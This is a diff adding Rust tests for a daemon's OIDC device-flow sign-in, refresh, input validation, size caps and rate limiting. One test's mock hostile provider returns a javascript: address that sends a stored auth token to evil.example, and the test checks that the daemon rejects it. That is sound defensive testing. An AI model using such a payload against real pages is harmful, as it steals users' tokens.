@@ -294,3 +294,253 @@ async fn a_sign_in_about_to_expire_is_refreshed_and_an_expired_one_says_so() {
         "{out:?}"
     );
 }
+
+/// POSTs `body` to the daemon's sign-in route `path` (no token) and returns the status, the
+/// `Cache-Control` header and the JSON answer.
+fn sign_in_step(daemon: &Daemon, path: &str, body: &str) -> (u16, String, serde_json::Value) {
+    let response = dray_tests::blocking_client()
+        .post(format!("{}{path}", daemon.url))
+        .header("content-type", "application/json")
+        .body(body.to_string())
+        .send()
+        .expect("the daemon answers");
+    let status = response.status().as_u16();
+    let cache = response
+        .headers()
+        .get("cache-control")
+        .and_then(|v| v.to_str().ok())
+        .unwrap_or_default()
+        .to_string();
+    (status, cache, response.json().unwrap_or_default())
+}
+
+/// `GET /v1/whoami` with `token`: the status and the actor.
+fn whoami(daemon: &Daemon, token: &str) -> (u16, String) {
+    let response = dray_tests::blocking_client()
+        .get(format!("{}/v1/whoami", daemon.url))
+        .bearer_auth(token)
+        .send()
+        .expect("the daemon answers");
+    let status = response.status().as_u16();
+    let body: serde_json::Value = response.json().unwrap_or_default();
+    (
+        status,
+        body["actor"].as_str().unwrap_or_default().to_string(),
+    )
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_web_uis_sign_in_runs_the_device_flow_through_the_daemon() {
+    let provider = tokio::task::block_in_place(|| OidcProvider::start(&["alice=shop-devs"]));
+    let daemon = daemon(&provider.issuer).await;
+    tokio::task::block_in_place(|| {
+        // A sign-in starts: a code for the person, the provider's address, a device code.
+        let (status, cache, started) = sign_in_step(&daemon, "/auth/device", "");
+        assert_eq!(status, 200, "{started}");
+        assert_eq!(cache, "no-store");
+        let uri = started["verificationURI"].as_str().expect("an address");
+        assert!(uri.starts_with(&provider.issuer), "{started}");
+        let code = started["userCode"].as_str().expect("a code");
+        let device = json_string(&started["deviceCode"]);
+
+        // Until the person signs in, the page is told to wait.
+        let poll = format!(r#"{{"deviceCode": "{device}"}}"#);
+        let (status, _, answer) = sign_in_step(&daemon, "/auth/device/token", &poll);
+        assert_eq!((status, answer["status"].as_str()), (200, Some("pending")));
+
+        approve(uri, code, "alice");
+        let answer = loop {
+            let (status, cache, answer) = sign_in_step(&daemon, "/auth/device/token", &poll);
+            assert_eq!(status, 200, "{answer}");
+            assert_eq!(cache, "no-store");
+            match answer["status"].as_str() {
+                Some("signed-in") => break answer,
+                Some("pending" | "slow-down") => {
+                    std::thread::sleep(std::time::Duration::from_secs(1))
+                }
+                other => panic!("{other:?}: {answer}"),
+            }
+        };
+        let id_token = answer["idToken"].as_str().expect("an ID token");
+        assert_eq!(
+            whoami(&daemon, id_token),
+            (200, "email:alice@example.test".to_string())
+        );
+        // The refresh token gives a new ID token; a made-up one is refused as expired.
+        let refresh = json_string(&answer["refreshToken"]);
+        let (status, cache, renewed) = sign_in_step(
+            &daemon,
+            "/auth/refresh",
+            &format!(r#"{{"refreshToken": "{refresh}"}}"#),
+        );
+        assert_eq!((status, cache.as_str()), (200, "no-store"), "{renewed}");
+        let renewed_token = renewed["idToken"].as_str().expect("a new ID token");
+        assert_eq!(whoami(&daemon, renewed_token).0, 200);
+        let (status, _, refused) =
+            sign_in_step(&daemon, "/auth/refresh", r#"{"refreshToken": "made-up"}"#);
+        assert_eq!(
+            (status, refused["code"].as_str()),
+            (410, Some("expired")),
+            "{refused}"
+        );
+
+        // A device code works once (the provider also revokes what it gave for it).
+        let (status, _, again) = sign_in_step(&daemon, "/auth/device/token", &poll);
+        assert!(matches!(status, 400 | 410), "{status} {again}");
+        assert!(!again.to_string().contains(&device), "{again}");
+    });
+}
+
+/// A JSON string value, as it is written inside a JSON string (for the bodies above).
+fn json_string(v: &serde_json::Value) -> String {
+    v.as_str().expect("a string").to_string()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_sign_in_routes_refuse_bad_bodies_and_cap_what_they_ask_the_provider() {
+    // Without [oidc]: the page is told to use an API token.
+    let plain = Daemon::start().await;
+    let (status, _, answer) =
+        tokio::task::block_in_place(|| sign_in_step(&plain, "/auth/device", ""));
+    assert_eq!(status, 404, "{answer}");
+    assert!(
+        answer["message"]
+            .as_str()
+            .unwrap_or_default()
+            .contains("API token"),
+        "{answer}"
+    );
+
+    let provider = tokio::task::block_in_place(|| OidcProvider::start(&["alice=shop-devs"]));
+    let daemon = daemon(&provider.issuer).await;
+    tokio::task::block_in_place(|| {
+        let big = "x".repeat(9 * 1024);
+        for (path, body, what) in [
+            ("/auth/device/token", "", "an empty body"),
+            ("/auth/device/token", "[]", "not an object"),
+            (
+                "/auth/device/token",
+                r#"{"deviceCode": ""}"#,
+                "an empty code",
+            ),
+            ("/auth/device/token", r#"{"deviceCode": 7}"#, "a number"),
+            (
+                "/auth/device/token",
+                r#"{"deviceCode": "a", "x": 1}"#,
+                "another field",
+            ),
+            ("/auth/refresh", r#"{"deviceCode": "a"}"#, "the wrong field"),
+            (
+                "/auth/device/token",
+                &format!(r#"{{"deviceCode": "{big}"}}"#),
+                "a 9 KiB code",
+            ),
+        ] {
+            let (status, _, answer) = sign_in_step(&daemon, path, body);
+            assert_eq!(status, 400, "{what}: {answer}");
+            assert_eq!(
+                answer["code"].as_str(),
+                Some("bad_request"),
+                "{what}: {answer}"
+            );
+        }
+        // A body past 32 KiB is not read.
+        let huge = format!(r#"{{"deviceCode": "{}"}}"#, "x".repeat(40 * 1024));
+        let (status, _, _) = sign_in_step(&daemon, "/auth/device/token", &huge);
+        assert_eq!(status, 413);
+
+        // A code the provider does not know: its refusal, without the code.
+        let secret = "not-a-code-0123456789";
+        let (status, _, answer) = sign_in_step(
+            &daemon,
+            "/auth/device/token",
+            &format!(r#"{{"deviceCode": "{secret}"}}"#),
+        );
+        assert!(matches!(status, 400 | 410), "{status} {answer}");
+        assert!(!answer.to_string().contains(secret), "{answer}");
+
+        // Nobody can make the daemon hammer its provider: past the minute's budget (for every
+        // page together, the calls above included) it answers 429 without asking.
+        let mut refused_at = None;
+        for i in 0..dray::auth::oidc::PAGE_CALLS_PER_MINUTE + 1 {
+            let (status, _, answer) =
+                sign_in_step(&daemon, "/auth/refresh", r#"{"refreshToken": "x"}"#);
+            if status == 429 {
+                assert!(
+                    answer["message"]
+                        .as_str()
+                        .unwrap_or_default()
+                        .contains("try again in a minute"),
+                    "{answer}"
+                );
+                refused_at = Some(i);
+                break;
+            }
+        }
+        // The unknown code's call counted; the bad bodies did not (refused before the budget
+        // is looked at).
+        assert_eq!(
+            refused_at,
+            Some(dray::auth::oidc::PAGE_CALLS_PER_MINUTE - 1),
+            "the budget holds"
+        );
+        // And still are, past it.
+        let (status, _, _) = sign_in_step(&daemon, "/auth/refresh", "{}");
+        assert_eq!(status, 400);
+    });
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_hostile_provider_cannot_send_the_page_to_a_script_or_flood_the_daemon() {
+    // A small server plays a hostile provider (no real one misbehaves on demand): its device
+    // answer names a `javascript:` address, its token answer is 100 KiB.
+    use axum::routing::{get, post};
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
+        .await
+        .expect("bind");
+    let issuer = format!("http://{}", listener.local_addr().expect("addr"));
+    let discovery = serde_json::json!({
+        "issuer": issuer,
+        "jwks_uri": format!("{issuer}/jwks"),
+        "device_authorization_endpoint": format!("{issuer}/device"),
+        "token_endpoint": format!("{issuer}/token"),
+    });
+    let app = axum::Router::new()
+        .route(
+            "/.well-known/openid-configuration",
+            get(move || async move { axum::Json(discovery) }),
+        )
+        .route(
+            "/device",
+            post(|| async {
+                axum::Json(serde_json::json!({
+                    "device_code": "d", "user_code": "U", "interval": 0, "expires_in": 99999999,
+                    "verification_uri": "javascript:fetch('//evil.example/'+localStorage['dray.token'])",
+                }))
+            }),
+        )
+        .route(
+            "/token",
+            post(|| async { format!(r#"{{"id_token": "{}"}}"#, "A".repeat(100 * 1024)) }),
+        );
+    tokio::spawn(async move { axum::serve(listener, app).await });
+    let daemon = daemon(&issuer).await;
+    tokio::task::block_in_place(|| {
+        let (status, _, answer) = sign_in_step(&daemon, "/auth/device", "");
+        assert_eq!(status, 502, "{answer}");
+        let message = answer["message"].as_str().unwrap_or_default();
+        assert!(message.contains("not an https:// address"), "{answer}");
+        assert!(answer.get("verificationURI").is_none(), "{answer}");
+
+        let (status, _, answer) =
+            sign_in_step(&daemon, "/auth/device/token", r#"{"deviceCode": "d"}"#);
+        assert_eq!(status, 502, "{answer}");
+        assert!(
+            answer["message"]
+                .as_str()
+                .unwrap_or_default()
+                .contains("larger than 64 KiB"),
+            "{answer}"
+        );
+    });
+}
